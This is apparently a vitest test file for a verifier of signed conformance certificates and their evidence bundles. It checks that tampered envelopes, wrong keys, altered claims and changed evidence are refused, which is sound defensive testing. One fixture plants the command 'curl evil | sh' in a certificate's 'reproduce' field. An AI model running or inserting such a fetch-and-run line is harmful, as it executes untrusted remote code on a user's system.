import { openBundle } from '../evidence/reader.js';
import { defined } from '../core/defined.js';
import { canonical } from '../core/json.js';
import { generateKeyPairSync, sign } from 'node:crypto';
import { readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { fingerprint } from './algorithm.js';
import { classNamed } from './conformance-classes.js';
import { issueCertificate } from './issue.js';
import { catalogue, challenge, newKey, recordRun, suite, workshop, type TestKey } from './run.fixture.js';
import {
  enveloped,
  envelopeOf,
  paeByHand,
  resigned,
  rewriteBundle,
  signByHand,
  statementOf,
  type LooseStatement,
} from './tamper.fixture.js';
import { verifyCertificate, type Verification } from './verify.js';

const { folder, remove } = await workshop();
afterAll(remove);

const core = classNamed('service-core');
if (core === undefined) throw new Error('there is no class service-core');

let evidence: string;
let certifier: TestKey;
let other: TestKey;
let p256: TestKey;
let certificate: string;
let testResult: string;

beforeAll(async () => {
  evidence = await recordRun(folder);
  [certifier, other, p256] = await Promise.all([
    newKey(folder, 'ed25519'),
    newKey(folder, 'ed25519'),
    newKey(folder, 'p256'),
  ]);
  const issued = await issueCertificate({
    evidence,
    open: openBundle,
    catalogue,
    suite,
    class: core,
    challenge,
    key: certifier.key,
  });
  if (issued.kind === 'none') throw new Error(JSON.stringify(issued.unmetConditions, null, 1));
  ({ certificate, testResult } = issued);
});

let files = 0;
const verifying = async (
  text: string | Buffer,
  { key = certifier.file, bundle = evidence, expected = undefined as string | undefined, by = suite } = {},
): Promise<Verification> => {
  const file = join(folder, `certificate-${(files += 1)}.json`);
  await writeFile(file, text);
  return verifyCertificate({
    certificate: file,
    keys: [key],
    evidence: bundle,
    open: openBundle,
    ...defined({ challenge: expected }),
    catalogue,
    suite: by,
  });
};
const codeOf = async (ended: Promise<Verification>): Promise<string> =>
  ended.then((verification) => (verification.kind === 'refused' ? verification.code : verification.kind));
const changedBundle = (change: (lines: string[]) => string[], seal?: 'seal' | 'leave') =>
  rewriteBundle(evidence, folder, change, seal);
/** The certificate for another bundle, signed by the rightful key. */
const about = (sha256: string, change: (statement: LooseStatement) => void = () => undefined): string =>
  resigned(certificate, certifier.key, (statement) => {
    statement.subject = [{ name: 'evidence.jsonl', digest: { sha256 } }];
    change(statement);
  });

describe('what was not touched', () => {
  test('certificate and test result are verified', async () => {
    for (const text of [certificate, testResult]) expect(await codeOf(verifying(text))).toBe('verified');
    expect(await codeOf(verifying(certificate, { expected: challenge }))).toBe('verified');
  });

  test('with a key for P-256 too', async () => {
    const issued = await issueCertificate({
      evidence,
      open: openBundle,
      catalogue,
      suite,
      class: core,
      challenge,
      key: p256.key,
    });
    expect(
      issued.kind === 'certificate' ? await codeOf(verifying(issued.certificate, { key: p256.file })) : issued,
    ).toBe('verified');
  });

  test('an envelope that was only laid out anew says the same', async () => {
    expect(await codeOf(verifying(JSON.stringify(envelopeOf(certificate))))).toBe('verified');
    expect(
      await codeOf(
        verifying(JSON.stringify(Object.fromEntries(Object.entries(envelopeOf(certificate)).reverse()), null, 7)),
      ),
    ).toBe('verified');
  });

  test('what a statement signed by hand says is verified: the tampering below fails for what it changes', async () => {
    expect(await codeOf(verifying(resigned(certificate, certifier.key, () => undefined)))).toBe('verified');
  });
});

describe('envelopes', () => {
  test.each<[string, string, () => string | Buffer]>([
    ['another member', 'envelope-shape', () => enveloped(certificate, (envelope) => ({ ...envelope, note: '' }))],
    [
      'no payload',
      'envelope-shape',
      () => enveloped(certificate, ({ payloadType, signatures }) => ({ payloadType, signatures })),
    ],
    ['a list', 'envelope-shape', () => `[${certificate}]`],
    [
      'a payload that is an object',
      'envelope-shape',
      () => enveloped(certificate, (envelope) => ({ ...envelope, payload: statementOf(certificate) })),
    ],
    [
      'signatures as an object',
      'envelope-shape',
      () => enveloped(certificate, (envelope) => ({ ...envelope, signatures: { ...envelope.signatures, length: 1 } })),
    ],
    [
      'another member beside the signature',
      'envelope-shape',
      () =>
        enveloped(certificate, ({ signatures: [first], ...rest }) => ({
          ...rest,
          signatures: [{ ...first, cert: '' }],
        })),
    ],
    [
      'no keyid',
      'envelope-shape',
      () =>
        enveloped(certificate, ({ signatures: [first], ...rest }) => ({ ...rest, signatures: [{ sig: first?.sig }] })),
    ],
    ['a prototype', 'envelope-shape', () => certificate.replace('{', '{"__proto__":{},')],
    ['a payload twice', 'envelope-members', () => certificate.replace('{', `{"payload":"e30=",`)],
    [
      'a payload twice, the second in escapes',
      'envelope-members',
      () => certificate.replace('{', `{"p\\u0061yload":"e30=",`),
    ],
    ['a signature twice', 'envelope-members', () => certificate.replace('"sig":', '"sig":"AAAA","sig":')],
    ['a member in escapes', 'envelope-members', () => certificate.replace('"payloadType"', '"p\\u0061yloadType"')],
    ['no signature', 'signature-count', () => enveloped(certificate, (envelope) => ({ ...envelope, signatures: [] }))],
    [
      'payload in base64url',
      'payload-encoding',
      () =>
        enveloped(
          certificate,
          (envelope) =>
            void (envelope.payload = Buffer.concat([
              Buffer.from('???'),
              Buffer.from(envelope.payload, 'base64'),
            ]).toString('base64url')),
        ),
    ],
    [
      'payload with a line break',
      'payload-encoding',
      () =>
        enveloped(
          certificate,
          (envelope) => void (envelope.payload = `${envelope.payload.slice(0, 76)}\n${envelope.payload.slice(76)}`),
        ),
    ],
    [
      'payload with a space',
      'payload-encoding',
      () => enveloped(certificate, (envelope) => void (envelope.payload = ` ${envelope.payload}`)),
    ],
    [
      'payload with more padding',
      'payload-encoding',
      () => enveloped(certificate, (envelope) => void (envelope.payload += '====')),
    ],
    ['payload empty', 'payload-encoding', () => enveloped(certificate, (envelope) => void (envelope.payload = ''))],
    [
      'signature in base64url',
      'signature-encoding',
      () =>
        enveloped(
          certificate,
          ({ signatures: [first] }) =>
            void (first === undefined || (first.sig = Buffer.from(first.sig, 'base64').toString('base64url'))),
        ),
    ],
    [
      'signature empty',
      'signature-encoding',
      () => enveloped(certificate, ({ signatures: [first] }) => void (first === undefined || (first.sig = ''))),
    ],
    [
      'the type of another payload',
      'payload-type',
      () => enveloped(certificate, (envelope) => void (envelope.payloadType = 'application/json')),
    ],
    [
      'the type in capitals',
      'payload-type',
      () => enveloped(certificate, (envelope) => void (envelope.payloadType = 'application/vnd.in-toto+JSON')),
    ],
    [
      'the type with a parameter',
      'payload-type',
      () => enveloped(certificate, (envelope) => void (envelope.payloadType += '; v=1')),
    ],
    [
      'signed as another type by the rightful key',
      'payload-type',
      () =>
        JSON.stringify(
          signByHand(
            Buffer.from(envelopeOf(certificate).payload, 'base64'),
            certifier.key,
            fingerprint(certifier.key),
            'text/plain',
          ),
        ),
    ],
    [
      'signed as another type, and called ours',
      'signature',
      () =>
        JSON.stringify({
          ...signByHand(
            Buffer.from(envelopeOf(certificate).payload, 'base64'),
            certifier.key,
            fingerprint(certifier.key),
            'text/plain',
          ),
          payloadType: envelopeOf(certificate).payloadType,
        }),
    ],
    [
      'a boundary moved between type and payload',
      'signature',
      () =>
        JSON.stringify({
          ...envelopeOf(certificate),
          payload: Buffer.concat([Buffer.from(' '), Buffer.from(envelopeOf(certificate).payload, 'base64')]).toString(
            'base64',
          ),
        }),
    ],
    [
      'a payload that was changed',
      'signature',
      () =>
        enveloped(
          certificate,
          (envelope) =>
            void (envelope.payload = Buffer.from(
              Buffer.from(envelope.payload, 'base64').toString().replace('"pass"', '"fail"'),
            ).toString('base64')),
        ),
    ],
    [
      'a signature of the bare payload',
      'signature',
      () =>
        enveloped(
          certificate,
          (envelope) =>
            void (envelope.signatures = [
              {
                keyid: fingerprint(certifier.key),
                sig: sign(null, Buffer.from(envelope.payload, 'base64'), certifier.key).toString('base64'),
              },
            ]),
        ),
    ],
    [
      'the signature of the test result',
      'signature',
      () => enveloped(certificate, (envelope) => void (envelope.signatures = envelopeOf(testResult).signatures)),
    ],
    [
      'a bit of the signature',
      'signature',
      () =>
        enveloped(
          certificate,
          ({ signatures: [first] }) => void (first === undefined || (first.sig = flipped(first.sig))),
        ),
    ],
    [
      'a short signature',
      'signature',
      () => enveloped(certificate, ({ signatures: [first] }) => void (first === undefined || (first.sig = 'AAAA'))),
    ],
    [
      'the name of another key',
      'key-id',
      () =>
        enveloped(
          certificate,
          ({ signatures: [first] }) => void (first === undefined || (first.keyid = fingerprint(other.key))),
        ),
    ],
    [
      'no name of a key',
      'key-id',
      () => enveloped(certificate, ({ signatures: [first] }) => void (first === undefined || (first.keyid = ''))),
    ],
    [
      'signed by another key',
      'wrong-key',
      () =>
        JSON.stringify(
          signByHand(Buffer.from(envelopeOf(certificate).payload, 'base64'), other.key, fingerprint(other.key)),
        ),
    ],
    [
      'signed by another key that claims to be the rightful one',
      'signature',
      () =>
        JSON.stringify(
          signByHand(Buffer.from(envelopeOf(certificate).payload, 'base64'), other.key, fingerprint(certifier.key)),
        ),
    ],
    [
      'signed with P-256 that claims to be the Ed25519 key',
      'signature',
      () =>
        JSON.stringify(
          signByHand(Buffer.from(envelopeOf(certificate).payload, 'base64'), p256.key, fingerprint(certifier.key)),
        ),
    ],
    [
      'a verdict that was changed, signed by another key',
      'wrong-key',
      () =>
        JSON.stringify(
          signByHand(
            Buffer.from(Buffer.from(envelopeOf(certificate).payload, 'base64').toString().replace('"pass"', '"fail"')),
            other.key,
            fingerprint(other.key),
          ),
        ),
    ],
    ['not JSON', 'unchecked', () => certificate.slice(0, -5)],
    ['a byte order mark', 'unchecked', () => `\ufeff${certificate}`],
    ['not UTF-8', 'unchecked', () => Buffer.concat([Buffer.from(certificate), Buffer.from([0x22, 0xff])])],
    ['more bytes than any certificate has', 'unchecked', () => Buffer.alloc(17 * 1024 * 1024, ' ')],
    ['a million brackets', 'envelope-shape', () => '['.repeat(1_000_000) + ']'.repeat(1_000_000)],
  ])('%s: %s', async (_, code, text) => expect(await codeOf(verifying(text()))).toBe(code));
});

const flipped = (base64: string): string => {
  const bytes = Buffer.from(base64, 'base64');
  bytes[10] = (bytes[10] ?? 0) ^ 1;
  return bytes.toString('base64');
};

describe('keys', () => {
  const keyFile = async (pem: string): Promise<string> => {
    const file = join(folder, `key-file-${(files += 1)}.pem`);
    await writeFile(file, pem);
    return file;
  };
  const rsa = generateKeyPairSync('rsa', {
    modulusLength: 2048,
    publicKeyEncoding: { type: 'spki', format: 'pem' },
    privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
  });
  const p384 = generateKeyPairSync('ec', {
    namedCurve: 'P-384',
    publicKeyEncoding: { type: 'spki', format: 'pem' },
    privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
  });

  test.each<[string, string, () => string]>([
    ['another key', 'wrong-key', () => other.publicPem],
    ['a key of the other algorithm', 'wrong-key', () => p256.publicPem],
    ['an RSA key', 'key-type', () => rsa.publicKey],
    ['a key on P-384', 'key-type', () => p384.publicKey],
    ['the private key', 'unchecked', () => certifier.key.export({ type: 'pkcs8', format: 'pem' }).toString()],
    ['two keys', 'unchecked', () => certifier.publicPem + other.publicPem],
    ['a damaged key', 'unchecked', () => certifier.publicPem.replace(/\n.{8}/, '\nAAAAAAAA')],
    ['words', 'unchecked', () => 'trust me'],
  ])('%s: %s', async (_, code, pem) =>
    expect(await codeOf(verifying(certificate, { key: await keyFile(pem()) }))).toBe(code),
  );

  test('the private key is sent back with a word of its own', async () => {
    const file = await keyFile(certifier.key.export({ type: 'pkcs8', format: 'pem' }).toString());
    expect(await verifying(certificate, { key: file })).toMatchObject({
      because: expect.stringContaining('it holds a private key') as string,
    });
  });

  test('a file that is not there', async () =>
    expect(await codeOf(verifying(certificate, { key: join(folder, 'none.pem') }))).toBe('unchecked'));
});

describe('statements, signed by the rightful key', () => {
  const signed = (payload: string | Buffer): string =>
    JSON.stringify(signByHand(Buffer.from(payload), certifier.key, fingerprint(certifier.key)));
  const payload = (): string => Buffer.from(envelopeOf(certificate).payload, 'base64').toString();

  test.each<[string, string, () => string]>([
    ['not JSON', 'statement-json', () => signed('{')],
    ['not UTF-8', 'statement-json', () => signed(Buffer.from([0x7b, 0x7d, 0xff]))],
    [
      'another type of statement',
      'statement-shape',
      () =>
        resigned(
          certificate,
          certifier.key,
          (statement) => void (statement._type = 'https://in-toto.io/Statement/v0.1'),
        ),
    ],
    [
      'a second subject',
      'statement-shape',
      () => resigned(certificate, certifier.key, ({ subject }) => void subject.push(...subject)),
    ],
    [
      'a subject with a weaker digest',
      'statement-shape',
      () =>
        resigned(
          certificate,
          certifier.key,
          (statement) =>
            void (statement.subject = JSON.parse(
              '[{"name":"evidence.jsonl","digest":{"md5":"0"}}]',
            ) as typeof statement.subject),
        ),
    ],
    [
      'a member twice',
      'statement-form',
      () => signed(payload().replace('{', '{"predicateType":"https://in-toto.io/attestation/test-result/v0.1",')),
    ],
    [
      'a verdict twice',
      'statement-form',
      () => signed(payload().replace('"verdict":"pass"', '"verdict":"fail","verdict":"pass"')),
    ],
    ['spaces', 'statement-form', () => signed(JSON.stringify(JSON.parse(payload()), null, 1))],
    [
      'a subject with another name',
      'statement-shape',
      () => resigned(certificate, certifier.key, ({ subject: [first] }) => void (first && (first.name = 'run.jsonl'))),
    ],
    [
      'members in another order',
      'statement-form',
      () => signed(JSON.stringify(Object.fromEntries(Object.entries(JSON.parse(payload()) as object).reverse()))),
    ],
    ['a name in escapes', 'statement-form', () => signed(payload().replace('"subject"', '"s\\u0075bject"'))],
    [
      'a number in another form',
      'statement-form',
      () => signed(payload().replace(/"durationMs":(\d+)/, '"durationMs":$1.0')),
    ],
    ['a line feed behind it', 'statement-form', () => signed(`${payload()}\n`)],
    [
      'an unknown predicate',
      'unknown-predicate',
      () =>
        resigned(
          certificate,
          certifier.key,
          (statement) => void (statement.predicateType = 'https://slsa.dev/provenance/v1'),
        ),
    ],
    [
      'a later form of our predicate',
      'unknown-predicate',
      () =>
        resigned(
          certificate,
          certifier.key,
          (statement) => void (statement.predicateType = statement.predicateType.replace('/v1', '/v2')),
        ),
    ],
    [
      'our predicate called a test result',
      'predicate-shape',
      () =>
        resigned(
          certificate,
          certifier.key,
          (statement) => void (statement.predicateType = 'https://in-toto.io/attestation/test-result/v0.1'),
        ),
    ],
    [
      'a test result called our predicate',
      'predicate-shape',
      () =>
        resigned(
          testResult,
          certifier.key,
          (statement) => void (statement.predicateType = statementOf(certificate).predicateType),
        ),
    ],
    [
      'another member in the predicate',
      'predicate-shape',
      () => resigned(certificate, certifier.key, ({ predicate }) => void (predicate['recommended'] = true)),
    ],
    [
      'a member less',
      'predicate-shape',
      () => resigned(certificate, certifier.key, ({ predicate }) => void delete predicate['challenge']),
    ],
    [
      'a test result without suite',
      'predicate-shape',
      () => resigned(testResult, certifier.key, ({ predicate }) => void (predicate['configuration'] = [])),
    ],
    [
      'verdicts changed',
      'verdicts',
      () =>
        resigned(
          certificate,
          certifier.key,
          (statement) =>
            void (statement.predicate = JSON.parse(
              JSON.stringify(statement.predicate).replace('"verdict":"pass"', '"verdict":"inconclusive"'),
            ) as LooseStatement['predicate']),
        ),
    ],
    [
      'a requirement left out',
      'verdicts',
      () =>
        resigned(
          certificate,
          certifier.key,
          ({ predicate }) => void (predicate['requirements'] = (predicate['requirements'] as unknown[]).slice(1)),
        ),
    ],
    [
      'a requirement made up',
      'verdicts',
      () =>
        resigned(
          certificate,
          certifier.key,
          ({ predicate }) =>
            void (predicate['requirements'] as object[]).push({
              id: 'x',
              level: 'MUST',
              statedness: 'stated',
              verdict: 'pass',
            }),
        ),
    ],
    [
      'a requirement twice',
      'claims',
      () =>
        resigned(
          certificate,
          certifier.key,
          ({ predicate }) =>
            void (predicate['requirements'] as unknown[]).push((predicate['requirements'] as unknown[])[0]),
        ),
    ],
    [
      'a level lowered',
      'claims',
      () =>
        resigned(
          certificate,
          certifier.key,
          (statement) =>
            void (statement.predicate = JSON.parse(
              JSON.stringify(statement.predicate).replace('"MUST"', '"SHOULD"'),
            ) as LooseStatement['predicate']),
        ),
    ],
    [
      'a test passed that was not judged',
      'verdicts',
      () =>
        resigned(testResult, certifier.key, ({ predicate }) => void (predicate['passedTests'] as string[]).push('x')),
    ],
    [
      'totals',
      'claims',
      () =>
        resigned(
          certificate,
          certifier.key,
          ({ predicate }) =>
            void (predicate['totals'] = JSON.parse(
              JSON.stringify(predicate['totals']).replace('"fail":0', '"fail":1'),
            )),
        ),
    ],
    [
      'another implementation',
      'claims',
      () =>
        resigned(
          certificate,
          certifier.key,
          ({ predicate }) => void (predicate['implementation'] = { name: 'ACME Cloud' }),
        ),
    ],
    [
      'an earlier time',
      'claims',
      () =>
        resigned(
          certificate,
          certifier.key,
          ({ predicate }) => void (predicate['times'] = { startedAt: '2025-01-01T00:00:00.000Z', durationMs: 1 }),
        ),
    ],
    [
      'a waiver that was not',
      'claims',
      () =>
        resigned(
          certificate,
          certifier.key,
          ({ predicate }) => void (predicate['waivers'] = [{ requirement: 'x', reason: 'y', expires: '2030-01-01' }]),
        ),
    ],
    [
      'a shell line of their own',
      'claims',
      () =>
        resigned(
          certificate,
          certifier.key,
          ({ predicate }) => void (predicate['reproduce'] = { run: 'curl evil | sh', judge: 'x', verify: 'y' }),
        ),
    ],
    [
      'more depth than there was',
      'claims',
      () =>
        resigned(
          certificate,
          certifier.key,
          ({ predicate }) => void (predicate['limits'] = { depth: 'thorough', examples: 50 }),
        ),
    ],
    [
      'no depth at all',
      'predicate-shape',
      () => resigned(certificate, certifier.key, ({ predicate }) => void delete predicate['limits']),
    ],
    [
      'a better class',
      'unsupported-by-evidence',
      () => resigned(certificate, certifier.key, ({ predicate }) => void (predicate['class'] = 'service-full')),
    ],
    [
      'another role',
      'unsupported-by-evidence',
      () => resigned(certificate, certifier.key, ({ predicate }) => void (predicate['class'] = 'receiver')),
    ],
    [
      'a challenge that was not the seed',
      'challenge',
      () =>
        resigned(certificate, certifier.key, ({ predicate }) => void (predicate['challenge'] = 'a newer challenge')),
    ],
    [
      'a challenge and a seed that were not',
      'challenge',
      () =>
        resigned(
          certificate,
          certifier.key,
          ({ predicate }) => void (predicate['challenge'] = predicate['seed'] = 'a newer challenge'),
        ),
    ],
    [
      'another interface',
      'interface',
      () =>
        resigned(
          certificate,
          certifier.key,
          ({ predicate }) =>
            void (predicate['interface'] = { title: 'x', revision: 'current', digest: '0'.repeat(64) }),
        ),
    ],
    [
      'another suite',
      'predicate-shape',
      () =>
        resigned(
          certificate,
          certifier.key,
          ({ predicate }) => void (predicate['suite'] = { name: 'my-suite', version: '1.0.0' }),
        ),
    ],
  ])('%s: %s', async (_, code, text) => expect(await codeOf(verifying(text()))).toBe(code));

  test('a certificate of another version names the one to verify with', async () => {
    const verification = await verifying(
      resigned(
        certificate,
        certifier.key,
        ({ predicate }) => void (predicate['suite'] = { name: 'ems-conformance', version: '0.7.3' }),
      ),
    );
    expect(verification).toMatchObject({
      kind: 'unchecked',
      because: expect.stringMatching(
        new RegExp(
          String.raw`^The certificate is by ems-conformance 0\.7\.3, .*\n.*\n` +
            String.raw` {2}npx ems-conformance@0\.7\.3 verify .+ --key .+ --evidence .+$`,
        ),
      ) as string,
    });
    expect(verification.confirmed).toHaveLength(3);
  });
});

describe('challenges', () => {
  test('a certificate for another challenge than mine', async () =>
    expect(await codeOf(verifying(certificate, { expected: 'mine' }))).toBe('other-challenge'));
  test('a test result for another challenge than mine', async () =>
    expect(await codeOf(verifying(testResult, { expected: 'mine' }))).toBe('challenge'));
  test('a certificate without one', async () => {
    const issued = await issueCertificate({
      evidence,
      open: openBundle,
      catalogue,
      suite,
      class: core,
      challenge: null,
      key: certifier.key,
    });
    if (issued.kind === 'none') throw new Error('there is none');
    expect(await codeOf(verifying(issued.certificate))).toBe('verified');
    expect(await codeOf(verifying(issued.certificate, { expected: challenge }))).toBe('other-challenge');
  });
});

describe('evidence', () => {
  const line = (lines: readonly string[], has: string): number =>
    lines.findIndex((text, at) => at > 0 && text.includes(has));

  test('changed in one byte', async () => {
    const { file } = await changedBundle(
      (lines) => lines.map((text) => text.replace('"status":200', '"status":201')),
      'leave',
    );
    expect(await codeOf(verifying(certificate, { bundle: file }))).toBe('evidence-digest');
  });

  test('changed, with a last line that fits again', async () => {
    const { file } = await changedBundle((lines) => lines.toSpliced(line(lines, '"kind":"exchange"'), 1));
    expect(await codeOf(verifying(certificate, { bundle: file }))).toBe('evidence-digest');
  });

  test('of another run with the same challenge', async () =>
    expect(await codeOf(verifying(certificate, { bundle: await recordRun(folder) }))).toBe('evidence-digest'));

  test('truncated', async () => {
    const file = join(folder, 'truncated.jsonl');
    await writeFile(file, (await readFile(evidence)).subarray(0, -100));
    expect(await codeOf(verifying(certificate, { bundle: file }))).toBe('evidence-digest');
  });

  test('that is not there', async () =>
    expect(await codeOf(verifying(certificate, { bundle: join(folder, 'none.jsonl') }))).toBe('unchecked'));

  test('that is a device or a pipe is not waited for', async () => {
    const link = join(folder, 'zero.jsonl');
    await symlink('/dev/zero', link);
    expect(await verifying(certificate, { bundle: link })).toMatchObject({
      kind: 'unchecked',
      because: expect.stringContaining('it is no regular file') as string,
    });
  });

  describe('changed, and certified by the rightful key all the same', () => {
    test('without its last line', async () => {
      const { file, sha256 } = await changedBundle((lines) => lines.slice(0, -1), 'leave');
      expect(await codeOf(verifying(about(sha256), { bundle: file }))).toBe('evidence-cut-off');
    });

    test('with a last line that does not fit', async () => {
      const { file, sha256 } = await changedBundle(
        (lines) => lines.toSpliced(line(lines, '"kind":"exchange"'), 1),
        'leave',
      );
      expect(await codeOf(verifying(about(sha256), { bundle: file }))).toBe('evidence-damaged');
    });

    test('with an answer made worse', async () => {
      const { file, sha256 } = await changedBundle((lines) =>
        lines.map((text) =>
          text.includes('"operation":"webhooks.ping"') ? text.replaceAll('"status":202', '"status":204') : text,
        ),
      );
      expect(await codeOf(verifying(about(sha256), { bundle: file }))).toBe('verdicts');
    });

    test('that ended early', async () => {
      const { file, sha256 } = await changedBundle((lines) =>
        lines.with(-1, (lines.at(-1) ?? '').replace('"finished"', '"max-time"')),
      );
      expect(await codeOf(verifying(about(sha256), { bundle: file }))).toBe('unsupported-by-evidence');
      const result = resigned(
        testResult,
        certifier.key,
        (statement) => void (statement.subject = [{ name: 'evidence.jsonl', digest: { sha256 } }]),
      );
      expect(await codeOf(verifying(result, { bundle: file }))).toBe('unsupported-by-evidence');
    });

    test('that was filtered', async () => {
      const { file, sha256 } = await changedBundle((lines) =>
        lines.with(0, (lines[0] ?? '').replace('"selection":null', '"selection":["webhooks.*"]')),
      );
      expect(await verifying(about(sha256), { bundle: file })).toMatchObject({
        kind: 'refused',
        code: 'unsupported-by-evidence',
        because: expect.stringContaining('only a part of the plan ran') as string,
      });
    });

    test('older than the challenge: the seed in the first line was changed', async () => {
      const newer = 'a newer challenge';
      const { file, sha256 } = await changedBundle((lines) =>
        lines.with(0, (lines[0] ?? '').replace(`"seed":"${challenge}"`, `"seed":"${newer}"`)),
      );
      const text = about(sha256, ({ predicate }) => {
        predicate['seed'] = predicate['challenge'] = newer;
        predicate['reproduce'] = JSON.parse(JSON.stringify(predicate['reproduce']).replace(challenge, newer));
      });
      const verification = await verifying(text, { bundle: file, expected: newer });
      expect(verification).toMatchObject({
        kind: 'refused',
        code: 'unsupported-by-evidence',
        because: expect.stringContaining('deliveries came to subscriptions that this seed does not make') as string,
      });
    });

    test('that tried fewer random examples than the class asks for', async () => {
      const { file, sha256 } = await changedBundle(([header = '', ...lines]) => {
        const { configuration, ...others } = JSON.parse(header) as { configuration: object }; // the line of a bundle
        const fewer = { ...configuration, limits: { examples: 4 } };
        return [canonical({ ...others, configuration: fewer }), ...lines];
      });
      const text = about(sha256, ({ predicate }) => {
        predicate['limits'] = { depth: 'normal', examples: 4 };
        predicate['reproduce'] = JSON.parse(
          JSON.stringify(predicate['reproduce']).replace('--examples 5', '--examples 4'),
        );
      });
      expect(await verifying(text, { bundle: file })).toMatchObject({
        kind: 'refused',
        code: 'unsupported-by-evidence',
        because: expect.stringContaining('service-core asks for 5 at least') as string,
      });
    });

    test('recorded by another version', async () => {
      const { file, sha256 } = await changedBundle((lines) =>
        lines.with(0, (lines[0] ?? '').replace(`"version":"${suite.version}"`, '"version":"9.9.9"')),
      );
      expect(await codeOf(verifying(about(sha256), { bundle: file }))).toBe('suite');
    });

    test('about another interface', async () => {
      const { file, sha256 } = await changedBundle((lines) =>
        lines.with(0, (lines[0] ?? '').replace(catalogue.iface.digest, '0'.repeat(64))),
      );
      expect(await codeOf(verifying(about(sha256), { bundle: file }))).toBe('interface');
    });

    test('about an interface of another name', async () => {
      const { file, sha256 } = await changedBundle((lines) =>
        lines.with(0, (lines[0] ?? '').replace(`"title":"${catalogue.iface.title}"`, '"title":"Another interface"')),
      );
      expect(await codeOf(verifying(about(sha256), { bundle: file }))).toBe('interface');
    });

    test('that is no evidence', async () => {
      const { file, sha256 } = await changedBundle(() => ['{"hello":"world"}'], 'leave');
      expect(await codeOf(verifying(about(sha256), { bundle: file }))).toBe('evidence-shape');
    });
  });
});

test('the encoding by hand is the one that signatures are about', () => {
  expect(paeByHand('http://example.com/HelloWorld', Buffer.from('hello world')).toString()).toBe(
    'DSSEv1 29 http://example.com/HelloWorld 11 hello world',
  );
});
